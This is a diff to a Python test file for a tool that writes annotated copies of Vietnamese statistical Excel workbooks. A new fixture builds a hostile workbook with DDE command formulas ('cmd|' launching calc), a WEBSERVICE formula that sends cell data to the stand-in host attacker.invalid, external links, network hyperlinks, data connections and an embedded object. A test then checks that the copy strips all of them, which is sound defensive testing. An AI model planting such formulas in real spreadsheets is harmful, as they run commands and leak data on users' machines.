@@ -2,10 +2,14 @@
 
 import csv
 import io
+import zipfile
 from pathlib import Path
 
 import openpyxl
 import pytest
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 from tests.hostile import TEXTS
 
 from helpers.quality.annotate import annotated, copy_name, write_annotated
@@ -57,10 +61,53 @@ def test_cells_are_coloured_and_noted_in_both_languages(folder):
     assert "Error: “Poor households” of Một is negative (-3)" in sheet["C5"].comment.text
 
 
-def test_the_workbook_itself_stays_as_it_was(folder):
+def test_values_and_merged_ranges_stay_at_their_addresses(folder):
     sheet = opened(annotated(folder / "a.xlsx", findings_frame([wrong("C5")])))["Biểu 1"]
-    assert (sheet["C5"].value, sheet["C6"].value, sheet["D5"].value) == (-3, 9, "=C5*2")
+    assert (sheet["A1"].value, sheet["C5"].value, sheet["C6"].value) == ("TỔNG HỢP", -3, 9)
+    assert sheet["D5"].value is None  # a formula that was never calculated shows nothing
     assert [str(area) for area in sheet.merged_cells.ranges] == ["B5:B6"]
+
+
+OUTSIDE = "attacker.invalid"
+
+
+@pytest.fixture
+def reaching_out(folder):
+    """A workbook that asks other programs, files and hosts from every place that can: none of it is in a value."""
+    path = folder / "a.xlsx"
+    book = openpyxl.load_workbook(path)
+    sheet = book.active
+    for name, target in {"Auto": "cmd|'/C calc'!$A$0", "Ext": f"'[http://{OUTSIDE}/x.xlsx]S'!$A$1"}.items():
+        book.defined_names[name] = DefinedName(name, attr_text=target)
+    asks = f'WEBSERVICE("http://{OUTSIDE}/?"&A1)'
+    sheet["E5"], sheet["E6"], sheet["E7"] = f"={asks}", "=cmd|'/C calc'!A0", "=Auto"
+    sheet["C5"].hyperlink = f"http://{OUTSIDE}/?q=1"
+    sheet["C6"].hyperlink = f"file:////{OUTSIDE}/share/x.xlsx"
+    sheet["C6"].number_format = f'0;"http://{OUTSIDE}"'
+    sheet.conditional_formatting.add("C5", FormulaRule(formula=[asks]))
+    rule = DataValidation(type="custom", formula1=asks)
+    rule.add("C6")
+    sheet.add_data_validation(rule)
+    sheet.oddHeader.center.text, book.properties.creator = OUTSIDE, OUTSIDE
+    book.save(path)
+    with zipfile.ZipFile(path, "a") as package:
+        package.writestr("xl/connections.xml", f'<connections><webPr url="http://{OUTSIDE}"/></connections>')
+        package.writestr("xl/embeddings/oleObject1.bin", OUTSIDE)
+    return path
+
+
+def test_nothing_that_reaches_out_of_a_workbook_is_in_its_copy(reaching_out):
+    data = annotated(reaching_out, findings_frame([wrong("C5"), asked("C6")]))
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        parts = {name: package.read(name).decode("utf-8") for name in package.namelist()}
+    whole = "\n".join([*parts, *parts.values()])
+    for mark in (OUTSIDE, "cmd|", "WEBSERVICE", "<definedName ", "<f>", 'TargetMode="External"', "<dataValidation",
+                 "<conditionalFormatting", "externalLink", "connections", "embeddings"):  # fmt: skip
+        assert mark not in whole, mark
+    sheet = opened(data)["Biểu 1"]
+    marked = {c.coordinate: c.fill.fgColor.rgb[-6:] for row in sheet for c in row if c.comment}
+    assert marked == {"C5": "FFC7CE", "C6": "FFEB9C"}
+    assert (sheet["C5"].value, sheet["C6"].value) == (-3, 9)
 
 
 def test_the_first_sheet_lists_all_worst_first_with_links(folder):
